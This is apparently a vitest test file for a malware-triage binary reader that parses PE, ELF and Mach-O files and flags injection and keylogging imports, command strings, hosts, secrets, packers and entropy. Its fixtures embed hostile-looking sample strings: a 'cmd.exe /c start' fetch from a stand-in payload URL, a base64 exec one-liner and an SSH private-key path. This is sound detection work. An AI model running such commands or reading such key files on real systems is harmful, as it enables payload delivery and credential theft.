import { describe, expect, test } from 'vitest';
import { readBinary } from '../../../src/analysis/binary/read-binary.ts';
import { makeElf, makeMachO, makePe, sourceOf } from './make-binaries.ts';

const URL = 'https://drop.example.invalid/payload.bin';

describe('a Windows extension module', () => {
  const facts = readBinary(
    sourceOf(
      makePe({
        imports: {
          'KERNEL32.dll': ['CreateRemoteThread', 'WriteProcessMemory', 'Sleep'],
          'USER32.dll': ['GetAsyncKeyState'],
        },
        exports: ['PyInit_fast', 'helper'],
        text: `cmd.exe /c start ${URL}`,
        overlay: Buffer.alloc(1234, 7),
        tlsCallbacks: 2,
      }),
    ),
  );

  test('gives its tables', () => {
    expect(facts).toMatchObject({
      format: 'pe',
      architecture: 'x86-64',
      isLibrary: true,
      libraries: ['KERNEL32.dll', 'USER32.dll'],
      imports: [
        'KERNEL32.dll!CreateRemoteThread',
        'KERNEL32.dll!WriteProcessMemory',
        'KERNEL32.dll!Sleep',
        'USER32.dll!GetAsyncKeyState',
      ],
      exports: ['PyInit_fast', 'helper'],
      pythonModules: ['fast'],
      constructors: 2,
      overlayBytes: 1234,
      isTruncated: false,
    });
  });

  test('gives what its imports make possible, and its texts in either width', () => {
    expect(facts?.capabilities).toEqual([
      { kind: 'injection', names: ['CreateRemoteThread', 'WriteProcessMemory'] },
      { kind: 'keystrokes', names: ['GetAsyncKeyState'] },
    ]);
    expect(facts?.strings[0]).toMatchObject({ kind: 'command', text: `cmd.exe /c start ${URL}` });
    expect(facts?.hosts).toEqual(['drop.example.invalid']);
    const wide = readBinary(
      sourceOf(makePe({ text: '' }).fill(Buffer.from(URL, 'utf16le'), 0x6000, 0x6000 + URL.length * 2)),
    );
    expect(wide?.strings).toMatchObject([{ kind: 'address', text: URL }]);
  });
});

describe('an ELF library', () => {
  const options = {
    libraries: ['libc.so.6', 'libcurl.so.4'],
    imports: ['execve', 'curl_easy_perform', 'PyModule_Create2', 'PyRun_SimpleString'],
    exports: ['PyInit_core'],
    text: 'import os; exec(b64decode(x))\0/home/u/.ssh/id_rsa\0hello world',
    constructors: 3,
  };

  test.each([
    ['with sections', false],
    ['without sections, as packers leave it', true],
  ])('%s gives its tables', (_what, isStripped) => {
    const facts = readBinary(sourceOf(makeElf({ ...options, isStripped })));

    expect(facts).toMatchObject({
      format: 'elf',
      architecture: 'x86-64',
      isLibrary: true,
      libraries: options.libraries,
      imports: options.imports,
      exports: options.exports,
      pythonModules: ['core'],
      constructors: 3,
      overlayBytes: 0,
    });
    expect(facts?.capabilities.map(({ kind }) => kind)).toEqual(['process', 'network', 'python-code']);
    expect(facts?.strings.map(({ kind }) => kind)).toEqual(['python-code', 'secret']);
    expect(facts?.marks).toEqual(['Python C API']);
  });

  test('with something behind its end says how much', () => {
    expect(readBinary(sourceOf(makeElf({ overlay: Buffer.alloc(5000, 1) })))?.overlayBytes).toBe(5000);
  });
});

describe('a Mach-O bundle', () => {
  const image = makeMachO({
    libraries: ['/usr/lib/libSystem.B.dylib'],
    imports: ['system', 'PyModule_Create2'],
    exports: ['PyInit_x'],
    text: URL,
  });

  test('gives its tables', () => {
    expect(readBinary(sourceOf(image))).toMatchObject({
      format: 'mach-o',
      architecture: 'arm64',
      isLibrary: true,
      libraries: ['/usr/lib/libSystem.B.dylib'],
      imports: ['system', 'PyModule_Create2'],
      exports: ['PyInit_x'],
      pythonModules: ['x'],
      hosts: ['drop.example.invalid'],
    });
  });

  test('in a fat file is read like the others in it', () => {
    const head = Buffer.alloc(0x1000);
    head.writeUInt32BE(0xcafebabe, 0);
    head.writeUInt32BE(2, 4);
    head.writeUInt32BE(0x1000, 8 + 8);
    head.writeUInt32BE(0x1000 + image.length, 28 + 8);

    expect(readBinary(sourceOf(Buffer.concat([head, image, image])))).toMatchObject({
      architecture: 'arm64, arm64',
      pythonModules: ['x'],
    });
  });
});

describe('marks', () => {
  test.each([
    ['UPX', makePe({ sectionName: 'UPX0' })],
    ['VMProtect', makePe({ sectionName: '.vmp0' })],
    ['PyInstaller', makePe({ overlay: Buffer.from('stuff MEI\x0c\x0b\x0a\x0b\x0e', 'latin1') })],
    ['Nuitka', makeElf({ text: 'NUITKA_ONEFILE_PARENT' })],
    ['pybind11', makeElf({ exports: ['_ZN8pybind115error'] })],
    ['Cython', makeElf({ exports: ['__pyx_module_is_main_x'] })],
  ])('%s', (mark, image) => {
    expect(readBinary(sourceOf(image))?.marks).toContain(mark);
  });
});

describe('entropy', () => {
  test('tells packed sections from plain ones', () => {
    const packed = makePe();
    for (let i = 0x400; i < packed.length; i++) if (i > 0x3400) packed[i] = (i * 167 + (i >> 5) * 91) & 255;

    expect(readBinary(sourceOf(packed))?.sections[0]?.entropy).toBeGreaterThan(5);
    expect(readBinary(sourceOf(makePe()))?.sections[0]?.entropy).toBeLessThan(1);
  });
});

describe('honest libraries', () => {
  test('raise no texts of interest, and standards are no hosts', () => {
    const facts = readBinary(
      sourceOf(
        makeElf({
          imports: ['malloc', 'PyModule_Create2'],
          exports: ['PyInit_a'],
          text: 'http://www.w3.org/2001/XMLSchema\0invalid argument\0see the docs',
        }),
      ),
    );

    expect(facts).toMatchObject({ strings: [], hosts: [], capabilities: [] });
  });
});

describe('hostile files', () => {
  test('what is no binary gives undefined', () => {
    for (const text of ['', 'MZ', 'MZ is a text', '\x7fEL', '\xca\xfe\xba\xbe\0\0\0\x34', 'PK\x03\x04']) {
      expect(readBinary(sourceOf(Buffer.from(text, 'latin1')))).toBeUndefined();
    }
  });

  test('damaged tables neither throw nor run away', () => {
    const images = [
      makePe({ imports: { 'a.dll': ['b'] }, exports: ['c'], tlsCallbacks: 1 }),
      makeElf({ libraries: ['a'], imports: ['b'], exports: ['c'] }),
      makeElf({ libraries: ['a'], imports: ['b'], exports: ['c'], isStripped: true }),
      makeMachO({ libraries: ['a'], imports: ['b'], exports: ['c'] }),
    ];
    const started = performance.now();
    for (const image of images) {
      for (let i = 4; i < 0x200; i += 3) {
        for (const value of [0xff, 0x7f, 0]) {
          const damaged = Buffer.from(image);
          damaged.fill(value, i, i + 1 + (i % 4));
          readBinary(sourceOf(damaged));
        }
      }
      for (let size = 0; size < image.length; size += 997) readBinary(sourceOf(image.subarray(0, size)));
    }

    expect(performance.now() - started).toBeLessThan(15_000);
  });

  test('of a file of gigabytes only samples are read', () => {
    let read = 0;
    const image = makePe({ text: URL });
    const huge = {
      sizeBytes: 4 * 2 ** 30,
      readAt: (position: number, length: number): Uint8Array => {
        read += length;
        if (position >= image.length) return new Uint8Array(length);
        const bytes = new Uint8Array(length);
        bytes.set(image.subarray(position, position + length));
        return bytes;
      },
    };

    expect(readBinary(huge)).toMatchObject({ format: 'pe', isTruncated: true });
    expect(read).toBeLessThan(64 * 2 ** 20);
  });
});
